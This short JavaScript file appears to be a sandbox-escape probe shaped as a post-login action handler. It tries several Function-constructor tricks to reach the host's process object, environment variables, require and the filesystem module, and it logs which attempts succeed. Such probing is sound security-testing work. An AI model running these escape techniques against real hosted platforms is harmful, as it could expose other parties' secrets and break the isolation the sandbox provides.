// Out by the constructor of a function.
// → completed
exports.onExecutePostLogin = async (event, api) => {
  const ways = [
    () => console.log.constructor("return process")(),
    () => api.access.deny.constructor("return process")(),
    () => fetch.constructor("return process")(),
    () => (async () => {}).constructor("return process")(),
    () => [].constructor.constructor("return process")(),
    () => event.user.constructor.constructor("return require")()("node:fs"),
    () => new Error().constructor.constructor("return globalThis.process.env")(),
    () => Reflect.construct(Function, ["return this.process.mainModule"])(),
  ];
  for (const way of ways) {
    try {
      const found = await way();
      if (found !== undefined) console.error("REACHED", String(way), typeof found);
    } catch {}
  }
};
